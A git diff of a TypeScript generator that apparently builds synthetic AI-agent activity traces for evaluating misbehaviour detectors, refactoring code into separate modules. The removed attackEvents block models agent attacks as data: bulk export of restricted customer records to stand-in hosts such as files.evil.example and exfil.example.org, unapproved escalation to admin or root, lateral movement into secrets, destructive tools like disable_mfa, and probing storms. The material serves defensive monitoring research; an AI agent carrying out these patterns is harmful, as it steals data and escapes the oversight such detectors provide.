@@ -6,55 +6,17 @@
  * detector evaluation and the benchmarks. None of this data comes from real agents.
  */
 import type { EventKind } from '../../schemas/conventions.ts';
+import { ATTACK_PATTERNS, attackEvents } from './attacks.ts';
+import type { AttackPattern } from './attacks.ts';
+import { data, heavy, int, pick, priv, rng, tool } from './planned-events.ts';
+import type { PlannedEvent, Rand } from './planned-events.ts';
 
-export const ATTACK_PATTERNS = [
-  'exfiltration_burst',
-  'slow_drip',
-  'unseen_tool',
-  'privilege_escalation',
-  'lateral_movement',
-  'post_task_credentials',
-  'risky_sequence',
-  'probing_storm',
-] as const;
-export type AttackPattern = (typeof ATTACK_PATTERNS)[number];
+export { ATTACK_PATTERNS } from './attacks.ts';
+export type { AttackPattern } from './attacks.ts';
+export { rng } from './planned-events.ts';
+export type { PlannedDataAccess, PlannedEvent, PlannedPrivilegeChange, PlannedToolCall } from './planned-events.ts';
+
 export type TaskLabel = 'benign' | AttackPattern;
-
-export interface PlannedToolCall {
-  kind: 'tool_call';
-  tool: string;
-  sideEffect?: 'read' | 'write' | 'destructive';
-  target?: string;
-  error?: boolean;
-}
-export interface PlannedDataAccess {
-  kind: 'data_access';
-  system?: string;
-  namespace?: string;
-  collection?: string;
-  url?: string;
-  file?: string;
-  operation?: string;
-  rows?: number;
-  bytes?: number;
-  classification?: 'public' | 'internal' | 'confidential' | 'restricted';
-  serverAddress?: string;
-  error?: boolean;
-}
-export interface PlannedPrivilegeChange {
-  kind: 'privilege_change';
-  action: string;
-  scopesBefore: string[];
-  scopesAfter: string[];
-  resource?: string;
-  approved?: boolean;
-  error?: boolean;
-}
-export type PlannedEvent = (PlannedToolCall | PlannedDataAccess | PlannedPrivilegeChange) & {
-  /** Simulated time since the previous event, ms. */
-  gapMs: number;
-  durationMs: number;
-};
 
 export interface TaskPlan {
   taskId: string;
@@ -81,55 +43,11 @@ export interface ScenarioOptions {
   patterns?: readonly AttackPattern[];
 }
 
-/** A deterministic PRNG (mulberry32). */
-export function rng(seed: number): () => number {
-  let state = seed >>> 0;
-  return () => {
-    state = (state + 0x6d2b79f5) >>> 0;
-    let t = state;
-    t = Math.imul(t ^ (t >>> 15), t | 1);
-    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
-    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
-  };
-}
-
-type Rand = () => number;
-const int = (r: Rand, min: number, max: number): number => min + Math.floor(r() * (max - min + 1));
-const pick = <T>(r: Rand, items: readonly T[]): T => items[Math.floor(r() * items.length)] as T;
-/** Log-normal-ish heavy tail: mostly near `median`, sometimes several times it. */
-const heavy = (r: Rand, median: number, spread: number): number =>
-  Math.max(1, Math.round(median * Math.exp((r() + r() + r() - 1.5) * spread)));
-
 interface TaskTypeModel {
   name: string;
   /** Builds the benign event sequence; `busy` asks for a long-but-normal task. */
   build(r: Rand, busy: boolean): PlannedEvent[];
 }
-
-const ev = <T extends PlannedEvent>(
-  event: Omit<T, 'gapMs' | 'durationMs'> & Partial<Pick<T, 'gapMs' | 'durationMs'>>,
-  r: Rand,
-): PlannedEvent => ({ gapMs: int(r, 200, 3000), durationMs: int(r, 20, 800), ...event }) as PlannedEvent;
-
-const tool = (
-  r: Rand,
-  name: string,
-  sideEffect: PlannedToolCall['sideEffect'] = 'read',
-  extra: Partial<PlannedToolCall> = {},
-): PlannedEvent =>
-  ev<PlannedToolCall & { gapMs: number; durationMs: number }>(
-    { kind: 'tool_call', tool: name, sideEffect, ...extra },
-    r,
-  );
-
-const data = (r: Rand, fields: Omit<PlannedDataAccess, 'kind'>): PlannedEvent =>
-  ev<PlannedDataAccess & { gapMs: number; durationMs: number }>(
-    { kind: 'data_access', system: 'postgresql', operation: 'SELECT', ...fields },
-    r,
-  );
-
-const priv = (r: Rand, fields: Omit<PlannedPrivilegeChange, 'kind'>): PlannedEvent =>
-  ev<PlannedPrivilegeChange & { gapMs: number; durationMs: number }>({ kind: 'privilege_change', ...fields }, r);
 
 export const TASK_TYPES: readonly TaskTypeModel[] = [
   {
@@ -345,136 +263,6 @@ export const TASK_TYPES: readonly TaskTypeModel[] = [
     },
   },
 ];
-
-/** Events that turn a benign task into an attack, appended after a benign prefix. */
-function attackEvents(r: Rand, pattern: AttackPattern): { events: PlannedEvent[]; afterEnd: PlannedEvent[] } {
-  const none: PlannedEvent[] = [];
-  switch (pattern) {
-    case 'exfiltration_burst':
-      return {
-        events: [
-          data(r, {
-            namespace: 'crm',
-            collection: 'customers',
-            rows: int(r, 20_000, 80_000),
-            bytes: int(r, 20_000_000, 90_000_000),
-            classification: 'restricted',
-          }),
-          tool(r, 'http_request', 'write', {
-            target: pick(r, ['paste.example.net', 'files.evil.example', 'upload.badhost.example']),
-          }),
-        ],
-        afterEnd: none,
-      };
-    case 'slow_drip': {
-      const events: PlannedEvent[] = [];
-      const reads = int(r, 40, 70);
-      for (let i = 0; i < reads; i += 1) {
-        events.push(
-          data(r, {
-            namespace: 'crm',
-            collection: 'customers',
-            rows: int(r, 2, 5),
-            bytes: int(r, 600, 2_000),
-            classification: 'confidential',
-          }),
-        );
-      }
-      return { events, afterEnd: none };
-    }
-    case 'unseen_tool':
-      return {
-        events: [
-          tool(r, pick(r, ['shell_exec', 'delete_repository', 'disable_mfa', 'transfer_funds']), 'destructive', {
-            target: 'prod.internal',
-          }),
-        ],
-        afterEnd: none,
-      };
-    case 'privilege_escalation':
-      return {
-        events: [
-          priv(r, {
-            action: pick(r, ['elevate', 'assume_role', 'grant']),
-            scopesBefore: ['tickets:read'],
-            scopesAfter: ['tickets:read', pick(r, ['admin', 'iam:*', 'org:admin', 'root'])],
-            resource: 'iam',
-            approved: false,
-          }),
-        ],
-        afterEnd: none,
-      };
-    case 'lateral_movement': {
-      const targets = [
-        ['hr', 'salaries'],
-        ['finance', 'ledger'],
-        ['prod', 'users'],
-        ['secrets', 'api_keys'],
-        ['legal', 'contracts'],
-      ] as const;
-      return {
-        events: targets
-          .slice(0, int(r, 3, 5))
-          .map(([namespace, collection]) =>
-            data(r, {
-              namespace,
-              collection,
-              rows: int(r, 5, 40),
-              bytes: int(r, 2_000, 40_000),
-              classification: 'confidential',
-            }),
-          ),
-        afterEnd: none,
-      };
-    }
-    case 'post_task_credentials':
-      return {
-        events: none,
-        afterEnd: [
-          tool(r, 'get_ticket'),
-          data(r, {
-            namespace: 'crm',
-            collection: 'customers',
-            rows: int(r, 1, 3),
-            bytes: 800,
-            classification: 'confidential',
-          }),
-        ],
-      };
-    case 'risky_sequence':
-      return {
-        events: [
-          tool(r, 'read_secret', 'read', { target: 'vault.internal' }),
-          data(r, {
-            system: 'vault',
-            namespace: 'vault',
-            collection: 'secrets',
-            rows: 1,
-            bytes: 256,
-            classification: 'restricted',
-          }),
-          tool(r, 'http_request', 'write', {
-            target: pick(r, ['webhook.site', 'requestbin.example', 'exfil.example.org']),
-          }),
-        ],
-        afterEnd: none,
-      };
-    case 'probing_storm': {
-      const events: PlannedEvent[] = [];
-      const calls = int(r, 25, 45);
-      for (let i = 0; i < calls; i += 1) {
-        events.push({
-          ...tool(r, pick(r, ['get_ticket', 'get_order', 'query_logs', 'run_query', 'lookup_ip']), 'read', {
-            error: true,
-          }),
-          gapMs: int(r, 20, 120),
-          durationMs: int(r, 5, 30),
-        });
-      }
-      return { events, afterEnd: none };
-    }
-  }
-}
 
 export interface Scenario {
   /** Benign warm-up tasks first (per type, interleaved), then the evaluation mix. */
